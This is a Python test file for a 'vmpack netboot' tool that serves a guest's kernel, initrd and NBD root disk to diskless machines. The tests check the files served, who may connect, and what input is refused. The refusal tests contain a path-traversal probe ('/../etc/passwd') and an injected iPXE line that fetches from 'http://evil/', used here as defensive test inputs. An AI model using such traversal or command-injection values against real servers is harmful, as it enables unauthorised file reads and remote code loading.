"""`vmpack netboot`: a machine without a disk starts the guest over its network card."""

from __future__ import annotations

import secrets
import socket
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from fixtures.boot import boot
from tests.hostile.refusal import FAILED, INPUT, TRUST, USAGE, refused
from tests.round_trip.command import Vmpack
from tests.round_trip.disks import tool
from tests.round_trip.packs import Packed
from tests.round_trip.small import pack_small
from tests.run.served import served

ANY_PORTS = ("--http-port", "0", "--tftp-port", "0", "--nbd-port", "0")
QUIET = (*ANY_PORTS, "--offline")
GUEST = "busybox-nbd"


@pytest.fixture
def host(run_vmpack: Vmpack, short_folder: Path, monkeypatch: pytest.MonkeyPatch) -> Vmpack:
    """A host that trusts the author, with a runtime folder of its own."""
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(short_folder))
    return run_vmpack


@pytest.fixture(scope="session")
def packed_guest(pack_guest: Callable[[str], Packed]) -> Packed:
    return pack_guest(GUEST)


@contextmanager
def offered(vmpack: Vmpack, pack: Path, *options: str | Path) -> Iterator[dict[str, Any]]:
    """`vmpack netboot`, until the block ends; yields what it says when it listens."""
    with served(vmpack, pack, *QUIET, *options, verb="netboot") as one:
        yield one.start


def here(uri: str) -> str:
    """The address by which this host reaches what a guest of QEMU reaches by `uri`."""
    return uri.replace("10.0.2.2", "127.0.0.1")


def got(uri: str, *options: str) -> bytes:
    done = subprocess.run(
        ["curl", "-sS", "--fail", *options, uri], capture_output=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


def file_in(packed: Packed, path: str, tmp_path: Path) -> bytes:
    """A file of the guest as debugfs reads it from the original disk."""
    out = tmp_path / "dumped"
    image = f"{packed.guest.image}?offset={packed.guest.root_offset}"
    tool("debugfs", "-R", f"dump {path} {out}", image)
    return out.read_bytes()


# -- real machines ---------------------------------------------------------------------------------


@pytest.mark.guest
@pytest.mark.parametrize("way", ["http", "tftp"])
def test_a_machine_without_a_disk_starts_the_guest(
    host: Vmpack, packed_guest: Packed, way: str
) -> None:
    nonce = secrets.token_hex(8)
    with offered(host, packed_guest.full) as said:
        nic = f"user,model=virtio-net-pci,bootfile={said[way]}"
        result = boot(None, nonce=nonce, extra_arguments=["-nic", nic])
    assert "VMPACK-NBD root" in result.console, result.console[-2000:]
    assert (result.nonce, result.digests_ok) == (nonce, True)
    assert result.disk_nonce == packed_guest.guest.facts["nonce"]


# -- what clients are given ------------------------------------------------------------------------


@pytest.mark.guest
def test_files_and_disk_are_those_of_the_guest(
    host: Vmpack, packed_guest: Packed, tmp_path: Path
) -> None:
    with offered(host, packed_guest.full, "--append", "a=1 b") as said:
        assert (said["kernel"], said["initrds"]) == ("/boot/vmlinuz", ["/boot/initrd.img"])
        for uri, options in ((said["http"], ()), (said["tftp"], ("--tftp-blksize", "1432"))):
            script = got(here(uri), *options).decode()
            assert script.startswith("#!ipxe\n")
            folder = here(uri).removesuffix("boot.ipxe")
            for name, path in (("vmlinuz", said["kernel"]), ("initrd0.img", said["initrds"][0])):
                assert got(folder + name, *options) == file_in(packed_guest, path, tmp_path), uri
        root = said["addresses"][0].removeprefix("nbd://")
        root_uuid = packed_guest.guest.facts["root_uuid"]
        kernel_line = next(line for line in script.splitlines() if line.startswith("kernel "))
        assert f" root=UUID={root_uuid} ro " in kernel_line
        assert kernel_line.endswith(f" ip=dhcp nbddev=/dev/nbd0 nbdroot={root} a=1 b")
        assert said["addresses"] == [f"nbd://{root}"]
        assert int(tool("nbdinfo", "--size", here(said["addresses"][0]))) == int(
            packed_guest.guest.facts["disk_size_bytes"]
        )


@pytest.mark.guest
def test_the_boot_copy_is_enough_to_serve_what_a_guest_starts_from(
    host: Vmpack, packed_guest: Packed, tmp_path: Path
) -> None:
    with offered(host, packed_guest.boot, "--from", "store:") as said:
        kernel = got(here(said["http"]).replace("boot.ipxe", "vmlinuz"))
    assert kernel == file_in(packed_guest, "/boot/vmlinuz", tmp_path)


@pytest.mark.guest
def test_nothing_else_is_given(host: Vmpack, packed_guest: Packed) -> None:
    with offered(host, packed_guest.full) as said:
        web = here(said["http"]).removesuffix("/boot.ipxe")
        for path in ("/", "/boot/vmlinuz", "/../etc/passwd", "/vmlinuz/", "/boot.ipxe?x"):
            assert status_of(web + path) == 404, path
        assert status_of(f"{web}/boot.ipxe", "-X", "POST", "-d", "x") == 405
        assert status_of(f"{web}/boot.ipxe") == 200


def status_of(uri: str, *options: str) -> int:
    command = ["curl", "-sS", "--path-as-is", "-o", "/dev/null", "-w", "%{http_code}", *options]
    return int(tool(*command, uri))


@pytest.mark.guest
def test_loaders_of_ipxe_are_given_and_dnsmasq_is_told_of_them(
    host: Vmpack, packed_guest: Packed, tmp_path: Path
) -> None:
    (tmp_path / "undionly.kpxe").write_bytes(b"iPXE" * 1000)
    (tmp_path / "secret").write_bytes(b"none of their business")
    with offered(host, packed_guest.full, "--loaders", tmp_path) as said:
        folder = here(said["tftp"]).removesuffix("boot.ipxe")
        assert got(f"{folder}undionly.kpxe") == b"iPXE" * 1000
        done = subprocess.run(["curl", "-sS", f"{folder}secret"], capture_output=True, check=False)
        assert done.returncode == 68  # CURLE_TFTP_NOTFOUND
    assert "dhcp-boot=tag:!ipxe,tag:!uefi,undionly.kpxe,,10.0.2.2" in said["dnsmasq"]


# -- who is let in ---------------------------------------------------------------------------------


@pytest.mark.guest
def test_only_this_host_is_let_in_unless_more_is_asked_for(
    host: Vmpack, packed_guest: Packed
) -> None:
    address = own_address()
    with offered(host, packed_guest.full) as said:
        for uri in (said["http"], said["addresses"][0]):
            port = int(uri.rpartition(":")[2].partition("/")[0])
            with pytest.raises(OSError, match="refused"):
                socket.create_connection((address, port), 5).close()


@pytest.mark.guest
def test_a_network_is_served_with_a_word_of_what_that_means(
    host: Vmpack, packed_guest: Packed
) -> None:
    address = own_address()
    process = host.start("netboot", packed_guest.full, *QUIET, "--listen", address)
    try:
        assert process.stdout is not None
        lines = [process.stdout.readline() for _ in range(6)]
        uri = lines[1].split()[1]
        assert uri.startswith(f"http://{address}:")
        assert f"nbdroot={address}:" in got(uri).decode()
        assert int(tool("nbdinfo", "--size", lines[3].split()[1].rstrip(","))) > 0
    finally:
        process.terminate()
        _, notes = process.communicate(timeout=30)
    assert "nothing of this is encrypted" in notes
    assert any(line.startswith("    dhcp-match") for line in lines)


def own_address() -> str:
    """An address of this host that is none of its loopback; nothing is sent to find it."""
    for name in socket.if_nameindex():
        if name[1] == "lo":
            continue
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            try:
                probe.connect(("192.0.2.1", 9))
                return str(probe.getsockname()[0])
            except OSError:
                continue
    pytest.skip("this host has no address but its loopback")


# -- what is refused -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (("--listen", "::1"), "expected an IPv4 address"),
        (("--listen", "example.org"), "expected an IPv4 address"),
        (("--listen", "0.0.0.0"), "needs --address"),
        (("--http-port", "65536"), "expected a port"),
        (("--nbd-port", "-1"), "expected a port"),
    ],
)
def test_what_makes_no_sense_is_refused(
    host: Vmpack, tmp_path: Path, options: tuple[str, ...], said: str
) -> None:
    done = host("netboot", tmp_path / "demo.vmpack", *options)
    assert done.returncode == USAGE
    assert said in done.stderr


@pytest.mark.guest
def test_arguments_that_would_be_lines_of_the_script_are_refused(
    host: Vmpack, packed_guest: Packed
) -> None:
    done = host("netboot", packed_guest.full, *QUIET, "--append", "ro\nimgfetch http://evil/")
    refused(done, USAGE, "--append")


@pytest.mark.guest
def test_a_line_of_the_menu_that_is_not_there_is_refused(
    host: Vmpack, packed_guest: Packed
) -> None:
    done = host("netboot", packed_guest.full, *QUIET, "--entry", "Windows")
    assert done.returncode == USAGE
    assert "'Windows'" in done.stderr
    assert "1  Debian GNU/Linux" in done.stderr


def test_a_disk_without_linux_is_refused(host: Vmpack, author: Vmpack, tmp_path: Path) -> None:
    pack = pack_small(author, tmp_path / "packs")
    refused(host("netboot", pack, *QUIET), INPUT, "no boot menu of Linux")


def test_a_pack_of_a_stranger_is_refused(stranger: Vmpack, author: Vmpack, tmp_path: Path) -> None:
    pack = pack_small(author, tmp_path / "packs")
    refused(stranger("netboot", pack, *QUIET), TRUST)


@pytest.mark.guest
@pytest.mark.parametrize("kind", [socket.SOCK_STREAM, socket.SOCK_DGRAM])
def test_a_busy_port_is_said(host: Vmpack, packed_guest: Packed, kind: socket.SocketKind) -> None:
    with socket.socket(socket.AF_INET, kind) as busy:
        busy.bind(("127.0.0.1", 0))
        if kind == socket.SOCK_STREAM:
            busy.listen()
        port = busy.getsockname()[1]
        option = "--http-port" if kind == socket.SOCK_STREAM else "--tftp-port"
        done = host("netboot", packed_guest.full, *QUIET, option, str(port))
    refused(done, FAILED, f"port {port}")
